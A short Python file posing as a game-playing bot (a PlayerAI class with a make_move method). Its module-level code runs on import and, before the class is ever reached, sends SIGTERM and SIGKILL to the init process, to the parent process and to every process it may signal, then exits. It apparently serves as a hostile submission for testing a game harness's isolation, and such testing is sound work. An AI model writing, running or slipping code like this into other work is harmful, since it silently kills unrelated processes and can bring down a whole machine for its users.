"""Ends its process while it is loaded, and sends everybody else signals before."""
#: first = "none"
import os
import signal

for number in (signal.SIGTERM, signal.SIGKILL):
    for pid in (1, os.getppid(), -1):
        try:
            os.kill(pid, number)
        except OSError:
            pass
os._exit(0)

class PlayerAI:
    def make_move(self, board):
        return first_move(board)
